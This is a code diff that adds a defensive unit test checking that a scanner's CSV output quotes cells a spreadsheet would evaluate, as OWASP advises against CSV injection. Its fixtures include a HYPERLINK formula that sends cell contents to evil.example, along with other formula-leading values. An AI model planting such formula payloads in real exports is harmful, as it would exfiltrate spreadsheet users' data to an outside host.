@@ -70,3 +70,17 @@ def test_suppressed_findings_only_with_show_suppressed(
     rows = _rows(text)
     assert [r["suppression"] for r in rows] == ["", "", "", "", "inline"]
     assert rows[4]["path"] == "tests/fixtures/legacy.py"
+
+
+def test_cells_a_spreadsheet_would_evaluate_are_quoted(
+    result: ScanResult, render: Callable[..., str]
+) -> None:
+    # OWASP's CSV injection advice: a leading quote makes the cell text.
+    result.findings[0].path = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    result.findings[2].author = "@SUM(1+1) <a@example.com>"
+    result.findings[1].path = "-2+3"
+    rows = _rows(render("csv", result))
+    assert rows[0]["path"] == "'" + result.findings[0].path
+    assert rows[2]["author"] == "'@SUM(1+1) <a@example.com>"
+    assert rows[1]["path"] == "'-2+3"
+    assert rows[0]["rule_id"] == "hesedvid-live-key" and rows[0]["line"] == "1"
